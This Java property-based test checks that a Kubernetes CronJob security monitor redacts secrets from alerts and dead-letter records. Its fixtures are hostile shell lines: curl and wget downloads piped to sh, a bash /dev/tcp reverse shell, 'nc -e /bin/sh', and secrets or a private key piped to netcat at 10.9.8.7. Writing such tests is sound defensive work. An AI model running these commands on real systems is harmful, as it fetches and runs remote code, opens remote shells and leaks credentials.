package dev.cronsentinel.redact;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.alert.AlertFactory;
import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.sink.AlertJson;
import dev.cronsentinel.sink.DeadLetterJson;
import dev.cronsentinel.sink.elasticsearch.DeadLetterDocument;
import dev.cronsentinel.sink.elasticsearch.EcsAlertDocument;
import dev.cronsentinel.testing.AuditEvents;
import dev.cronsentinel.testing.TestData;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.statistics.Statistics;

/**
 * Property (jqwik): no secret-shaped value of the input appears in any output. A random secret is put into a
 * random credential shape (bearer header, {@code -u user:pw}, URL user info, secret-named assignment or flag,
 * an env var with a secret name that the command expands, a private key, a cloud or GitHub token) in a
 * malicious CronJob's command, user agent or env; half the records are then broken (truncated after the secret,
 * or made invalid JSON) so they end as dead letters. Each record goes through the real decoder and scorer, the
 * redaction at its production choke points ({@link Redaction#evidence}, {@link Redaction#alert},
 * {@link Redaction#deadLetter}) and every writer (JSON lines, ECS, dead-letter JSON and ECS document); the
 * secret must appear in none of their bytes, decoded base64 included.
 */
class SecretRedactionFuzzTest {
    private static final String[] SHAPES = {
        "curl -sH 'Authorization: Bearer %s' http://10.9.8.7/x | sh",
        "curl -H \"authorization: token %s\" http://10.9.8.7/x | sh",
        "curl -u deploy:%s http://10.9.8.7/x | bash",
        "curl --user admin:%s -o /tmp/x http://10.9.8.7/x; sh /tmp/x",
        "wget -qO- https://svc:%s@10.9.8.7/x | sh",
        "export DB_PASSWORD=%s; bash -i >& /dev/tcp/10.9.8.7/4444 0>&1",
        "mysql --password=%s -e 'select 1'; nc -e /bin/sh 10.9.8.7 4444",
        "vault login --token %s && curl http://10.9.8.7/x | sh",
        "echo $APP_SECRET_KEY | nc 10.9.8.7 4444 #%s",
        "echo -----BEGIN EC PRIVATE KEY-----\\n%s\\n-----END EC PRIVATE KEY----- > /k; nc 10.9.8.7 4444 < /k",
        "aws s3 cp s3://b/x - --key AKIA%s | sh",
        "git clone https://ghp_%s@github.com/o/r && bash r/x.sh",
    };

    @Provide
    Arbitrary<String> secrets() {
        // Upper-case alphanumerics: valid inside every shape (an AWS key id wants exactly 16 of them).
        return Arbitraries.strings().withCharRange('A', 'Z').withCharRange('0', '9').ofLength(16)
                .map(s -> "Q" + s.substring(1));
    }

    @Property
    void noSecretOfTheInputAppearsInAnyOutput(@ForAll("secrets") String secret,
            @ForAll("shapeIndex") int shape, @ForAll("placement") int placement, @ForAll("breakage") int breakage) {
        String ghSecret = secret + secret.toLowerCase() + "abcd";
        String value = shape == SHAPES.length - 1 ? ghSecret : secret;
        String text = String.format(SHAPES[shape], value);
        AuditEvents event = AuditEvents.cronJob("team-a", "job-" + Math.abs(secret.hashCode() % 1000))
                .id("audit-" + Integer.toHexString(secret.hashCode())).at(Instant.parse("2026-11-20T09:00:00Z"))
                .images("registry.example.com/ops/tool:1");
        if (shape == 8) {
            // The secret lives only in the env; the command expands it.
            event.env("APP_SECRET_KEY", value).command("/bin/sh", "-c", "echo $APP_SECRET_KEY | nc 10.9.8.7 4444");
        } else if (placement == 0) {
            event.command("/bin/sh", "-c", text);
        } else if (placement == 1) {
            event.command("/bin/sh", "-c", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1").agent("tool/1.0 (" + text + ")");
        } else {
            event.command("/bin/sh", "-c", text).env("GITHUB_TOKEN", value + "-env");
        }
        byte[] raw = event.json().getBytes(StandardCharsets.UTF_8);
        if (breakage == 1) {
            // Truncated after the secret: a malformed record, a dead letter with the secret in its bytes.
            String json = new String(raw, StandardCharsets.UTF_8);
            int at = json.lastIndexOf(value) + value.length() + 3;
            raw = json.substring(0, Math.min(at, json.length() - 1)).getBytes(StandardCharsets.UTF_8);
        } else if (breakage == 2) {
            raw = (new String(raw, StandardCharsets.UTF_8) + "{,").getBytes(StandardCharsets.UTF_8);
        }

        TestData.Decoded decoded = TestData.decode(dev.cronsentinel.config.DecoderConfig.defaults(), raw);
        List<String> outputs = new ArrayList<>();
        for (WorkloadEvent e : decoded.events) {
            ScoredEvent full = TestData.defaultScorer().score(e, TestData.classifier().classify(e));
            ScoredEvent s = new ScoredEvent(full.event().afterScoring(), full.role(),
                    Redaction.evidence(full.signals(), full.event()), full.score(), full.severity(), full.alertable(),
                    full.allowlistedBy(), full.ruleVersion());
            Alert a = Redaction.alert(AlertFactory.fromScored(s, "default"));
            outputs.add(AlertJson.toJson(a));
            outputs.add(new String(EcsAlertDocument.toJson(a), StandardCharsets.UTF_8));
            Statistics.label("outcome").collect("alert");
        }
        for (DeadLetter d : decoded.deadLetters) {
            DeadLetter r = Redaction.deadLetter(d);
            outputs.add(DeadLetterJson.toJson(r));
            outputs.add(new String(DeadLetterDocument.toJson(r, 0L), StandardCharsets.UTF_8));
            outputs.add(new String(r.payload(), StandardCharsets.ISO_8859_1));
            Statistics.label("outcome").collect("dead letter");
        }
        assertThat(outputs).as("the record produced something").isNotEmpty();
        for (String out : outputs) {
            assertThat(out).doesNotContain(value).doesNotContain(Base64.getEncoder().encodeToString(
                    value.getBytes(StandardCharsets.UTF_8)));
        }
    }

    @Provide
    Arbitrary<Integer> shapeIndex() {
        return Arbitraries.integers().between(0, SHAPES.length - 1);
    }

    @Provide
    Arbitrary<Integer> placement() {
        return Arbitraries.integers().between(0, 2);
    }

    @Provide
    Arbitrary<Integer> breakage() {
        return Arbitraries.integers().between(0, 2);
    }
}
